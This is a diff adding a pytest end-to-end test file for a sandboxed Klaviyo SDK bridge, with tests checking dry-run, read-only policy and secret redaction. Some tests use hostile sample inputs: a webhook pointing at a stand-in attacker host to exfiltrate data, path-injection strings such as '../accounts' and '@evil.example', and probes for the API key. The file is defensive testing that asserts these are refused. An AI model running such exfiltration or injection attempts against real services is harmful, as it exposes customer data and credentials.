@@ -1,0 +1,146 @@
+"""End to end: a script in the sandbox, the real SDK and scanner on the host, the simulator behind."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import httpx
+import pytest
+import pytest_asyncio
+
+from codemode.catalog import load_catalog
+from codemode.klaviyo import AsyncKlaviyo
+from codemode.policy import Policy
+from codemode.sandbox import Sandbox, SdkBridge
+
+from .conftest import CANARY, execute
+
+simulator = pytest.importorskip("codemode.simulator")
+scanner_module = pytest.importorskip("codemode.scanner")
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+KEY = simulator.DEMO_PRIVATE_KEY
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def http() -> AsyncIterator[httpx.AsyncClient]:
+    app = simulator.create_app(simulator.SimConfig(seed=0, rate_limits=False))
+    async with httpx.AsyncClient(
+        transport=httpx.ASGITransport(app=app), base_url="http://sim"
+    ) as client:
+        client.app = app  # type: ignore[attr-defined]
+        yield client
+
+
+def make_bridge(http: httpx.AsyncClient, **kwargs: Any) -> SdkBridge:
+    client = AsyncKlaviyo(api_key=KEY, base_url="http://sim", http_client=http, max_retries=0)
+    kwargs.setdefault("scanner", scanner_module.Scanner(tier2=False))
+    return SdkBridge(client=client, catalog=load_catalog(), secrets=[KEY], **kwargs)
+
+
+REPORT = """
+from collections import Counter
+first = klaviyo.profiles.get_profiles(page_size=10)
+people = list(first.all(max_items=25))
+domains = Counter(p["email"].split("@")[1] for p in people if p.get("email"))
+print(len(people), "profiles;", len(domains), "domains")
+lists = klaviyo.lists.get_lists()
+print("lists:", len(lists.records) > 0)
+try:
+    klaviyo.profiles.get_profile("no-such-profile")
+except NotFoundError as e:
+    print("missing:", e.status)
+store["seen"] = len(people)
+"""
+
+
+async def test_a_realistic_script_runs_against_the_simulator(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    result = await execute(sandbox, REPORT, bridge=make_bridge(http), store={})
+    assert result.error is None, result.error
+    assert "25 profiles;" in result.output and "lists: True" in result.output
+    assert "missing: 404" in result.output
+    assert result.store == {"seen": 25}
+    assert [c.id for c in result.calls][:3] == ["get_profiles"] * 3
+    assert all(c.scan in {"clean", "flagged"} for c in result.calls if c.status == 200)
+    assert result.output_scan in {"clean", "flagged"}
+    assert KEY not in json.dumps(result.to_dict())
+
+
+async def test_dry_run_plans_writes_and_sends_none(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    stats = http.app.state.sim.stats  # type: ignore[attr-defined]
+    writes_before = sum(stats.writes.values()) if hasattr(stats, "writes") else None
+    code = "r = klaviyo.lists.create_list(attributes={'name': 'Dry VIP'})\nprint(r.data, r.status)"
+    result = await execute(sandbox, code, bridge=make_bridge(http, dry_run=True))
+    assert result.error is None, result.error
+    assert result.to_dict()["planned_writes"] == [
+        {"id": "create_list", "params": {"attributes": {"name": "Dry VIP"}}}
+    ]
+    assert "None 0" in result.output
+    if writes_before is not None:
+        assert sum(stats.writes.values()) == writes_before
+
+
+async def test_a_real_write_goes_through_when_not_dry(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    code = "r = klaviyo.lists.create_list(attributes={'name': 'Real VIP'})\nprint(r.status, r.data['name'])"
+    result = await execute(sandbox, code, bridge=make_bridge(http))
+    assert result.error is None and "201 Real VIP" in result.output
+
+
+async def test_exfiltration_through_the_sdk_is_refused(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    code = (
+        "klaviyo.webhooks.create_webhook(name='x', endpoint_url='https://attacker.example', "
+        "secret_key='k', relationships={'webhook-topics': {'data': []}})"
+    )
+    result = await execute(sandbox, code, bridge=make_bridge(http))
+    assert result.error is not None and result.error.type == "PolicyError"
+    assert "webhook writes send data to a URL you choose" in result.error.message
+
+
+async def test_path_injection_stays_inside_its_segment(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    code = (
+        "for bad in ['../accounts', '..%2Faccounts', 'x?filter=1', 'x#y', '@evil.example']:\n"
+        "    try:\n        klaviyo.profiles.get_profile(bad)\n"
+        "    except KlaviyoError as e:\n        print(e.status)\n"
+    )
+    result = await execute(sandbox, code, bridge=make_bridge(http))
+    assert result.error is None, result.error
+    assert result.output.split() == ["404"] * 5
+
+
+async def test_hunting_the_key_finds_nothing(sandbox: Sandbox, http: httpx.AsyncClient) -> None:
+    code = (
+        "print(repr(klaviyo), repr(klaviyo.accounts), repr(klaviyo.accounts.get_accounts))\n"
+        "r = klaviyo.accounts.get_accounts()\nprint(r.raw, r.links, r.meta, r.status)\n"
+        "try:\n    klaviyo.profiles.get_profile('nope')\n"
+        "except KlaviyoError as e:\n    print(e.to_dict(), repr(e), e.errors, e.meta, e.source)\n"
+        "for name in ['api_key', 'key', 'client', 'headers', 'auth', 'config', 'session']:\n"
+        "    print(name, hasattr(klaviyo, name), hasattr(r, name))\n"
+    )
+    result = await execute(sandbox, code, bridge=make_bridge(http))
+    assert result.error is None, result.error
+    assert KEY not in result.output and CANARY not in result.output
+    assert "api_key False False" in result.output
+
+
+async def test_read_only_policy_reaches_the_script_as_policy_error(
+    sandbox: Sandbox, http: httpx.AsyncClient
+) -> None:
+    code = (
+        "try:\n    klaviyo.lists.create_list(attributes={'name': 'x'})\n"
+        "except PolicyError as e:\n    print('refused:', e.rule)\n"
+    )
+    result = await execute(sandbox, code, bridge=make_bridge(http, policy=Policy(read_only=True)))
+    assert result.error is None and result.output == "refused: read-only\n"
